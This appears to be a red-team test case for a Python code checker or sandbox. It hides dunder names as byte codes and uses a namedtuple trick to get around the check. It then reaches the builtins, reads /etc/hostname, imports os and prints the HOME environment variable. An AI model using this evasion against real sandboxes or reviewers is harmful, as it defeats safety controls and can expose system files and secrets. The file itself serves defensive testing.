# family: red team, round 37 (field_makers.made_name: namedtuple(**{"typename": ...}) gives a run-time class name the check never sees)
import copy
import collections


def spelled(codes):
    return bytes(codes).decode()


def dunder(word):
    return spelled([95, 95]) + word + spelled([95, 95])


class Box:
    lookup = classmethod(collections.namedtuple(**{"typename": dunder("getattribute"), "field_names": "a"}))


def main():
    fetch = copy.copy(Box.lookup)
    namespace = fetch(main, dunder("globals"))
    print(namespace["copy"])
    builtins = namespace[dunder("builtins")]
    print(fetch(builtins, "open")("/etc/hostname").read())
    system = fetch(builtins, dunder("import"))("os")
    print(system.getcwd(), system.environ["HOME"])


main()
